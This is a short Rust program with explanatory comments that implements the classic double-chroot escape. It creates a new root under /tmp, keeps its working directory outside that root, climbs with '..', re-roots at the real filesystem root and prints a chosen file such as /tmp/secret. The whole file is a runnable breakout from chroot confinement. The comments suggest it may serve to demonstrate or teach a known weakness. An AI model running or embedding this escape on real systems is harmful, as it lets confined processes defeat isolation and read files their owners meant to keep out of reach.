//! The classic way out of a chroot, open to every process that may call chroot(2) itself.
//!
//! The kernel keeps two directories for a process: where `/` is, and where it stands. `..` goes
//! up everywhere but at the root directory. So a process that stands *outside* of its root never
//! comes past the one place where the kernel would stop it.

use std::os::unix::fs::chroot;
use std::{env, fs, io};

fn main() -> io::Result<()> {
    let secret = env::args().nth(1).unwrap_or("/tmp/secret".into());

    // Another root further down. We go on standing where we are: above it, and so outside.
    fs::create_dir_all("/tmp/hole")?;
    chroot("/tmp/hole")?;

    // At the top of the whole tree `..` leads nowhere else, so too many do no harm.
    for _ in 0..100 {
        env::set_current_dir("..")?;
    }
    chroot(".")?;

    print!("{}", fs::read_to_string(secret)?);
    Ok(())
}
